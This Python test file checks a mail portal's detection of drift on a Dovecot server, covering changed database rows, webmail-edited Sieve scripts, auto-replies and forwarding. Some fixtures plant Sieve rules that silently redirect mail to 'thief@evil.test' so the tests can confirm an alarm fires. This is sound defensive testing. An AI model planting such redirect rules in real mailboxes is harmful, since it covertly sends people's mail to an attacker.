"""What the user does in webmail, and what an administrator does in the database, found on a real Dovecot."""

import sqlite3
from contextlib import closing
from dataclasses import replace

import pytest

from accounts.models import Mailbox, RedirectAlarm
from audit.chain import record
from fleet.dovecot import Dovecot
from mailservers import credentials, drift, outbox
from mailservers.drivers.base import Limits
from mailservers.drivers.portal_script import PortalScript, compose, take_apart
from mailservers.models import Change, DriftCheck, Observation, Server
from tests.mailservers.drivers.contract import OTHER_HASH, new_account
from tests.mailservers.drivers.mailbox import (
    deliver,
    keep_own_script,
    script_text,
    scripts,
    subjects,
    webmail,
)
from vacation.forward_forms import ForwardingForm
from vacation.models import AutoReply, Forwarding, OwnScripts
from vacation.services import save_auto_reply

OWN_RULES = 'require ["copy"];\n# rule:[on]\nif true\n{\n\tredirect :copy "thief@evil.test";\n}\n'
OWN_REPLY = 'require ["vacation"];\n# rule:[away]\nvacation :days 1 "My own reply.";\n'


@pytest.fixture
def dovecot(dovecot_with_sqlite: Dovecot) -> Dovecot:
    return dovecot_with_sqlite


@pytest.fixture
def server(db, dovecot):
    return Server.objects.create(
        name="maximusconfessor",
        kind="dovecot",
        endpoints=dovecot.endpoints(),
        sealed_credentials=credentials.seal(dovecot.credentials()),
    )


@pytest.fixture
def live(mailbox, owner, committed):
    """Live on the server, under names no other test uses."""
    names = new_account("example.test")
    mailbox.login, mailbox.address = names.login, names.address
    mailbox.save()
    with committed():
        outbox.request_push(mailbox, "account", record("mailbox.created", by=None, about=mailbox))
        reply = AutoReply(mailbox=mailbox, enabled=True, subject="Away", text="Back on Monday.")
        save_auto_reply(reply, seen_version=0, by=owner)
    assert list(mailbox.changes.values_list("state", flat=True)) == ["live", "live"]
    return Mailbox.objects.get()


@pytest.fixture
def told(live, server, committed):
    """Has the server checked, and tells what is said of the mailbox."""

    def told():
        with committed():
            drift.request_check(server)
        assert not DriftCheck.objects.unfinished()
        return {part.aspect: part.differences_told for part in drift.drifted_parts(live)}

    return told


def mark(live, aspect):
    return next(part for part in drift.drifted_parts(live) if part.aspect == aspect).mark


def test_nothing_was_changed(told):
    assert told() == {}


def test_a_row_changed_in_the_database(told, live, dovecot, committed, webmaster):
    with closing(sqlite3.connect(dovecot.directory / "db" / "accounts.sqlite3")) as database:
        database.execute(
            "UPDATE mailbox SET quota_bytes = 5000000, password = ? WHERE login = ?", [OTHER_HASH, live.login]
        )
        database.commit()
    [quota, password] = told()["account"]
    assert "room for" in quota
    assert password == "The mailbox has another password there."
    with committed():
        drift.keep_theirs(live, "account", seen=mark(live, "account"), by=webmaster)
    live.refresh_from_db()
    assert (live.quota_bytes, live.password_hash) == (5_000_000, OTHER_HASH)
    assert told() == {}


def test_another_script_made_active_in_webmail_is_taken_over(told, live, dovecot, committed, webmaster):
    keep_own_script(dovecot, live.login, "roundcube", OWN_REPLY)
    assert told() == {"script": ["The rule “away” in the script “roundcube” answers automatically."]}
    with committed():
        drift.keep_theirs(live, "script", seen=mark(live, "script"), by=webmaster)
    reply = AutoReply.objects.get()
    assert (reply.enabled, reply.text, reply.days) == (True, "My own reply.", 1)
    assert scripts(dovecot, live.login) == {"portal": True, "roundcube": False}
    off = 'if false # true\n{\n\tvacation :days 1 "My own reply.";\n}'
    rule = 'vacation :days 1 "My own reply.";'
    assert script_text(dovecot, live.login, "roundcube") == OWN_REPLY.replace(rule, off)
    assert told() == {}
    with committed():
        outbox.undo(Change.objects.with_way_back().latest("pk"), by=webmaster)
    # What was set here stands again. Theirs stays off: of two, the server would send none.
    assert AutoReply.objects.get().text == "Back on Monday."
    assert script_text(dovecot, live.login, "roundcube") == OWN_REPLY.replace(rule, off)
    assert told() == {}


def test_one_from_before_is_found_when_ours_is_refused(server, mailbox, dovecot, committed, webmaster):
    names = new_account("example.test")
    mailbox.login, mailbox.address = names.login, names.address
    mailbox.save()
    with committed():
        outbox.request_push(mailbox, "account", record("mailbox.created", by=None, about=mailbox))
    keep_own_script(dovecot, mailbox.login, "roundcube", OWN_REPLY)
    with committed():
        reply = AutoReply(mailbox=mailbox, enabled=True, text="Back on Monday.")
        change = save_auto_reply(reply, seen_version=0, by=webmaster)
    change.refresh_from_db()
    assert (change.state, change.reason_text) == (
        "failed",
        "The mailbox runs its own auto-reply in the script “roundcube”."
        " Choose on the mailbox's page which one holds, or switch it off in webmail.",
    )
    with committed():
        drift.restore_ours(mailbox, "script", seen=mark(mailbox, "script"), by=webmaster)
    assert Change.objects.latest("pk").state == "live"
    assert "if false # true" in script_text(dovecot, mailbox.login, "roundcube")


def test_the_portals_script_edited_in_webmail(told, live, dovecot, committed, webmaster):
    ours = script_text(dovecot, live.login, "portal")
    keep_own_script(dovecot, live.login, "portal", ours.replace("Back on Monday.", "Back on Friday."))
    assert told() == {"script": ["The auto-reply has another text there."]}
    with committed():
        drift.keep_theirs(live, "script", seen=mark(live, "script"), by=webmaster)
    assert AutoReply.objects.get().text == "Back on Friday."
    assert told() == {}


def test_a_script_that_was_rewritten_is_restored(told, live, dovecot, committed, webmaster):
    ours = script_text(dovecot, live.login, "portal")
    keep_own_script(dovecot, live.login, "portal", ours + 'redirect "thief@evil.test";\n')
    assert told() == {"script": ["Mail is forwarded there, and not here."]}
    assert RedirectAlarm.objects.get().targets == ["thief@evil.test"]
    assert Observation.objects.get(aspect="script").restoring_told == [
        "The rule “#2” is kept in the script “portal-own-1”, switched off."
    ]
    with committed():
        drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
    assert "thief" not in script_text(dovecot, live.login, "portal")
    assert 'if false # true\n{\n\tredirect "thief' in script_text(dovecot, live.login, "portal-own-1")
    assert told() == {}


def test_restoring_says_what_moves_and_the_filter_still_runs(told, live, dovecot, committed, webmaster):
    ours = script_text(dovecot, live.login, "portal")
    filing = '# rule:[Newsletters]\nif header :contains "subject" "news"\n{\n\tfileinto :create "News";\n}\n'
    changed = ours.replace('require "include";', 'require ["include", "fileinto", "mailbox"];') + filing
    keep_own_script(dovecot, live.login, "portal", changed)
    assert told() == {"script": ["The portal's script was rewritten there."]}
    assert Observation.objects.get(aspect="script").restoring_told == [
        "Your filter “Newsletters” moves to the script “portal-own-1” and still runs."
    ]
    with committed():
        drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
    assert told() == {}
    deliver(dovecot, replace(new_account(), login=live.login, address=live.address), "news")
    assert subjects(dovecot, live.login, "News") == ["news"]
    assert OwnScripts.objects.get(mailbox=live).active == "portal-own-1"


def test_a_script_included_further_down_that_is_gone_is_told(told, live, dovecot, committed, webmaster):
    keep_own_script(dovecot, live.login, "nested", "keep;", active=False)
    keep_own_script(dovecot, live.login, "main", 'require "include";\ninclude "nested";\n')
    replaced = "The auto-reply does not run there: it was switched off, or its script replaced."
    assert told() == {"script": [replaced]}
    with committed():
        drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
    assert told() == {}
    with webmail(dovecot, live.login) as client:
        client.delete_script("nested")
    gone = (
        "The script “main” includes “nested”, which is not there: the mail server would run none of them."
        " Please mend it in webmail."
    )
    assert told() == {"script": [gone]}
    with committed():
        change = drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
    change.refresh_from_db()
    assert change.state == "failed"
    assert gone in change.reason_text


def test_own_rules_that_stand_against_it_are_noted(told, live, dovecot, committed, webmaster):
    own = 'require "reject";\nif address "from" "a@b.test" { reject "No."; }\n'
    redirecting = "".join(f'redirect "bert{number}@example.test"; ' for number in range(2))
    own += f'if header "subject" "invoice" {{ {redirecting}}}\n'
    with webmail(dovecot, live.login) as client:
        client.put_script("own", own)
        client.set_active("own")
    told()
    with committed():
        drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
    noted = OwnScripts.objects.get(mailbox=live)
    assert [note.partition(":")[0] for note in noted.notes_told] == [
        "Your script “own” refuses mail and lets other rules go on"
    ]
    # Before anything is saved it is known that these would be too many.
    live = Mailbox.objects.select_related("own_scripts").get()
    form = ForwardingForm(
        {"enabled": "on", "keep_copy": "on", "version": "0", "addresses": "a@example.test b@example.test"},
        instance=Forwarding(mailbox=live),
        limits=Limits(redirects=3),
        by=webmaster,
    )
    assert "Together these are 4 addresses" in str(form.errors["addresses"])


def test_a_redirect_among_the_users_own_rules(told, live, dovecot, webmaster, mailoutbox):
    webmaster.email = "willem@example.test"
    webmaster.save()
    assert told() == {}
    with webmail(dovecot, live.login) as client:
        client.put_script("roundcube", OWN_RULES)
        ours = client.get_script("portal")
        client.put_script("portal", ours + 'include :personal :optional "roundcube";\r\n')
    assert told() == {"script": ["The rule “on” in the script “roundcube” sends mail on."]}
    assert RedirectAlarm.objects.get().targets == ["thief@evil.test"]
    assert [mail.to for mail in mailoutbox] == [["willem@example.test"]]


def test_many_scripts_are_read_over_few_connections(told, live, dovecot, server, committed):
    """Mailboxes that are not there are in nobody's way."""
    for number in range(12):
        Mailbox.objects.create(
            address=f"more{number}@example.test",
            domain=live.domain,
            server=server,
            login=replace(new_account()).login,
            quota_bytes=0,
        )
    keep_own_script(dovecot, live.login, "roundcube", OWN_REPLY)
    assert list(told()) == ["script"]


def test_the_portals_script_is_deleted_in_webmail_and_switched_off_the_own_one_runs_again(
    told, live, dovecot, committed, owner, webmaster
):
    keep_own_script(dovecot, live.login, "roundcube", "keep;")
    told()
    with committed():
        drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
    assert OwnScripts.objects.get(mailbox=live).active == "roundcube"
    with webmail(dovecot, live.login) as client:
        client.set_active("")
        client.delete_script("portal")
    told()
    for times in range(2):
        with committed():
            reply = AutoReply(mailbox=live, enabled=False, text="Back on Monday.")
            save_auto_reply(reply, seen_version=times + 1, by=owner)
        assert scripts(dovecot, live.login) == {"roundcube": not times}
        # What somebody switches off after that stays off.
        with webmail(dovecot, live.login) as client:
            client.set_active("")


def test_a_script_from_before_there_was_an_order_is_no_difference(told, live, dovecot, committed, owner):
    """Hosters upgrade: it is written anew with the next change, and nobody is asked about it before."""
    keep_own_script(dovecot, live.login, "roundcube", "keep;", active=False)
    apart = take_apart(script_text(dovecot, live.login, "portal"))
    assert apart is not None
    former = compose(PortalScript(apart.text, "roundcube", None))
    keep_own_script(dovecot, live.login, "portal", former)
    assert told() == {}
    assert OwnScripts.objects.get(mailbox=live).notes_told == [
        "Until something is saved here, your rules in webmail still run after the auto-reply and the"
        " forwarding."
    ]
    with committed():
        reply = AutoReply(mailbox=live, enabled=True, subject="Away", text="Back on Tuesday.")
        save_auto_reply(reply, seen_version=1, by=owner)
    now = script_text(dovecot, live.login, "portal")
    assert now.index("include :personal") < now.index("vacation :")
    assert told() == {}
    assert OwnScripts.objects.get(mailbox=live).notes == []
